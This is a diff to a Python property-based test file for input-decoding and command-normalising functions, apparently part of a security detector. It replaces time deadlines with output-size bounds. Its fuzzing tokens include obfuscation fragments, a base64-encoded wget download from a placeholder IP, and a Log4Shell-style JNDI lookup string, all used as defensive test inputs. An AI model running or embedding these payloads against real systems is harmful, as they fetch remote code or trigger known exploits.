@@ -2,9 +2,6 @@
 
 from __future__ import annotations
 
-import time
-from datetime import timedelta
-
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
@@ -132,13 +129,14 @@ TOKENS = [
     *("\\x41", "\\101", "$'", "{a,b}", "base64 -d ", "d2dldCBodHRwOi8vMTkyLjAuMi4xL3g=", "/Base64/", "-enc "),
 ]
 FIELDS = st.one_of(st.lists(st.sampled_from(TOKENS), max_size=60).map("".join), st.text(max_size=200))
-BOUNDED = settings(max_examples=1000, deadline=timedelta(seconds=2), suppress_health_check=[HealthCheck.too_slow])
+# bounded by output size, never by time (benchmarks/hostile.py times the worst cases)
+BOUNDED = settings(max_examples=1000, deadline=None, suppress_health_check=[HealthCheck.too_slow])
 
 
 @BOUNDED
 @given(FIELDS)
 def test_every_view_never_raises_and_its_output_is_bounded(text):
-    # never raises, finishes within the deadline, and grows by a small constant factor at most
+    # never raises, and grows by a small constant factor at most
     url = url_decode(text)
     assert len(url) <= len(text) * 4 // 3 + 1  # %ff -> \xff (backslashreplace) is the only growth
     assert len(cmd_normalise(text)) <= len(text) + MAX_FIELD  # brace lists add at most MAX_FIELD
@@ -188,7 +186,7 @@ def test_the_views_are_not_idempotent_and_should_not_be(function, text, once, tw
 
 
 def test_bounded_work_on_hostile_fields():
-    t0 = time.perf_counter()
+    # each of these was quadratic or worse once; their times are in benchmarks/hostile.py
     views("%25" * 200_000)
     views("${" * 50_000 + "jndi:ldap://h/a" + "}" * 50_000)
     views("{a," * 30_000)
@@ -198,7 +196,6 @@ def test_bounded_work_on_hostile_fields():
     views("a" * (MAX_FIELD - 2) + "{,")  # the brace word was sought from every position: minutes
     braces = cmd_normalise("a" * (MAX_FIELD // 2) + "{" + "," * (MAX_FIELD // 4) + "}")  # was 8 G characters
     assert len(braces) <= 2 * MAX_FIELD
-    assert time.perf_counter() - t0 < 10
     assert len(views("a" * (MAX_FIELD * 3))[0].text) == MAX_FIELD
 
 
